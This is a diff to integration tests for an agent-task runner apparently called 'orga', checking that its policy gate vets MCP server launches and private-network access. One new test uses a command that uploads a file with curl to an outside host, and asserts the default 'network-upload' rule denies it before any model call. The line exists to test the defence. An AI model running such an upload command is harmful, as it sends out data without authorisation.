@@ -41,11 +41,17 @@ def _task(servers: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
     }
 
 
-def _orga_run(tmp_path: Path, model: FakeOpenAIServer, task: dict[str, Any]) -> dict[str, Any]:
-    """``orga run TASK --json`` on the embedded runtime; its result."""
+def _orga_run(
+    tmp_path: Path, model: FakeOpenAIServer, task: dict[str, Any], **settings: str
+) -> dict[str, Any]:
+    """``orga run TASK --json`` on the embedded runtime (with the ``ORGA_*`` ``settings``);
+    its result."""
     path = tmp_path / "task.yaml"
     path.write_text(yaml.safe_dump(task))
-    env = cli_env(tmp_path, ORGA_PROVIDER="openai", ORGA_BASE_URL=model.base_url, ORGA_API_KEY=KEY)
+    env = cli_env(
+        tmp_path, ORGA_PROVIDER="openai", ORGA_BASE_URL=model.base_url, ORGA_API_KEY=KEY,
+        **settings,
+    )  # fmt: skip
     run = subprocess.run(
         [str(ORGA), "run", str(path), "--json"], env=env, cwd=REPO, capture_output=True,
         text=True, timeout=240, check=False,
@@ -139,8 +145,12 @@ def test_orga_run_calls_a_stdio_server_gated_modified_denied_restarted_and_timed
     assert not (set(seen["names"]) | set(seen["parent_names"])) & MODEL_KEY_VARIABLES
     assert seen["parent_names"] and "ORGA_API_KEY" not in seen["names"]
     assert not list((tmp_path / "workspaces").rglob("n.txt"))
-    calls = [q for q in seen_by_opa if q.get("type") == "tool_call"]
+    calls = [q for q in seen_by_opa if q.get("type") == "tool_call" and "mcp_tool" in q]
     assert {(q["mcp_server"], q["mcp_tool"]) for q in calls} >= {("fake", "echo"), ("fake", "hang")}
+    # The server's start was asked about first, as the run_command it is.
+    start = next(q for q in seen_by_opa if q.get("tool_name") == "run_command")
+    assert start["attributes"] == {"mcp_server": "fake", "mcp_server_start": True}
+    assert start["arguments"]["command"].endswith("mcp_server.py")
 
 
 def test_orga_run_calls_an_http_server_and_cedar_denies_by_server_and_tool(
@@ -163,7 +173,8 @@ def test_orga_run_calls_an_http_server_and_cedar_denies_by_server_and_tool(
             [{"name": "web", "url": server.url}],
             policy={"kind": "cedar", "policy_files": [str(policy)]},
         )
-        result = _orga_run(tmp_path, model, task)
+        # The fake listens on 127.0.0.1, which a task's server reaches only when allowed.
+        result = _orga_run(tmp_path, model, task, ORGA_ALLOW_PRIVATE_NETWORK="true")
     assert result["status"] == "completed", result
     replies = _tool_replies(model.requests)
     assert replies["c1"] == "42"
@@ -199,7 +210,8 @@ def test_a_deployment_lists_and_calls_stdio_and_http_servers(
         cluster.root.mkdir()
         env = {"ORGA_PROVIDER": "openai", "ORGA_BASE_URL": model.base_url, "ORGA_API_KEY": KEY}
         try:
-            cluster.worker(**env)
+            # The HTTP fake listens on 127.0.0.1: a task's server reaches it only when allowed.
+            cluster.worker(**env, ORGA_ALLOW_PRIVATE_NETWORK="true")
             cluster.coordinator(**env)
             client = cluster.client()
             task = _task(
@@ -228,6 +240,44 @@ def test_a_deployment_lists_and_calls_stdio_and_http_servers(
             cluster.stop()
     assert replies == {"c1": "echo: deployed", "c2": "survived a restart", "c3": "3"}
     assert {"fake__echo", "web__add"} <= set(_offered(model.requests[0]))
+
+
+def test_a_task_server_the_gate_denies_fails_its_task_and_the_workers_go_on(
+    tmp_path: Path, private_redis: EmbeddedRedis
+) -> None:
+    """Real Celery workers: a task declaring ``sh -c "curl -d @x http://example.com"`` as a
+    stdio server fails with the configuration error naming the server, the default gate's rule
+    and the fix, before any model call; the same worker processes then run another task's
+    server and finish it."""
+    with FakeOpenAIServer(api_key=KEY) as model:
+        cluster = Cluster(private_redis.url, tmp_path / "cluster")
+        cluster.root.mkdir()
+        env = {"ORGA_PROVIDER": "openai", "ORGA_BASE_URL": model.base_url, "ORGA_API_KEY": KEY}
+        try:
+            cluster.worker(**env)
+            cluster.coordinator(**env)
+            client = cluster.client()
+            upload = ["sh", "-c", "curl -d @x http://example.com"]
+            denied = client.submit(
+                TaskSpec.model_validate(_task([{"name": "up", "command": upload}]))
+            )
+            failed = client.wait(denied, timeout_s=180)
+            asked_before = len(model.requests)
+            model.respond_tool_calls([("c1", "fake__echo", {"text": "still serving"})])
+            model.respond_text("done")
+            fine = client.submit(
+                TaskSpec.model_validate(_task([{"name": "fake", "command": stdio_command()}]))
+            )
+            result = client.wait(fine, timeout_s=180)
+        finally:
+            cluster.stop()
+    assert failed["status"] == "failed", (failed, cluster.logs())
+    error = failed["error"]
+    assert "MCP server 'up'" in error and "rule 'network-upload'" in error, error
+    assert "ORGA_MCP_SERVERS" in error and "change the task's policy" in error
+    assert asked_before == 0  # refused before the model was asked anything
+    assert result["status"] == "completed", (result, cluster.logs())
+    assert _tool_replies(model.requests) == {"c1": "echo: still serving"}
 
 
 def test_the_mcp_example_runs_with_orga_run(tmp_path: Path) -> None:
